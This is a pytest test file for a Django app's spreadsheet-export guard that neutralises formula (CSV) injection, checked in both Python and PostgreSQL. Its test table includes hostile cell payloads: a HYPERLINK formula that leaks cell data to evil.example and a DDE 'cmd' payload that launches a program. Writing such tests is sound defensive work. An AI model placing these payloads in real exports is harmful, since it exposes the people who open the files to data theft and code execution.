"""No text of a person becomes a formula in a spreadsheet; numbers stay numbers; PostgreSQL guards as Python does."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.db import connection

from leadsmarket.lib.spreadsheet import DROPPED, FORMULA_STARTS, safe_cell, safe_cell_sql

GUARDED = {
    "=1+1": "'=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"Amina")': '\'=HYPERLINK("https://evil.example/?"&A1,"Amina")',
    "=cmd|'/C calc'!A0": "'=cmd|'/C calc'!A0",
    "+212612345678": "'+212612345678",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1": "'\t'=1",
    "\r=1": "'\r'=1",
    "\n=1": "'\n'=1",
    "\tplain": "'\tplain",
    "\uff1d1+1": "'\uff1d1+1",
    "\uff20SUM(A1)": "'\uff20SUM(A1)",
    "   =1": "'   =1",
    "\xa0\u200b\ufeff=1": "'\xa0\u200b\ufeff=1",
    '"=1': "'\"=1",
    "'=1": "''=1",
    "Amina;=1+1": "Amina;'=1+1",
    'Amina; "=1+1': "Amina;' \"=1+1",
    "first\n=second\r\n-third": "first\n'=second\r\n'-third",
    "-12.50 dhs": "'-12.50 dhs",
    "--1": "'--1",
    "-": "'-",
    "\x00=1": "'=1",
}
KEPT = [
    "",
    "Amina Benali",
    "a=b",
    "Fès - Meknès",
    "a, -10 %",
    "0612345678",
    "-12.50",
    "1234.50",
    "12;30",
    "O'Neil",
    "أمينة",
    "amina@exemple.ma",
]


@pytest.mark.parametrize("text", GUARDED)
def test_texts_that_begin_a_formula_are_guarded(text):
    assert safe_cell(text) == GUARDED[text]


@pytest.mark.parametrize("text", KEPT)
def test_other_texts_are_kept(text):
    assert safe_cell(text) == text


def test_numbers_and_dates_are_kept_as_such():
    for value in (None, True, -3, -2.5, Decimal("-12.50"), date(2026, 11, 20)):
        assert safe_cell(value) is value


def test_no_combination_of_marks_lets_a_formula_through():
    for dropped in DROPPED:
        for start in FORMULA_STARTS:
            for text in (f"{dropped}{start}1+x", f"Amina;{dropped}{dropped}{start}1+x"):
                row = io.StringIO()
                csv.writer(row).writerow([safe_cell(text)])
                for cell in next(csv.reader(io.StringIO(row.getvalue()), delimiter=",")):
                    for part in cell.split(";"):
                        assert part.startswith(("'", "Amina")), repr(text)


def test_postgresql_guards_the_same_texts(db):
    texts = [text for text in (*GUARDED, *KEPT) if "\x00" not in text]
    texts += [f"x;{dropped}{start}y" for dropped in DROPPED for start in FORMULA_STARTS]
    with connection.cursor() as cursor:
        cursor.execute(
            f"SELECT {safe_cell_sql('t')} FROM unnest(%s::text[]) WITH ORDINALITY AS c (t, n) ORDER BY n", [texts]
        )
        assert [row[0] for row in cursor.fetchall()] == [safe_cell(text) for text in texts]
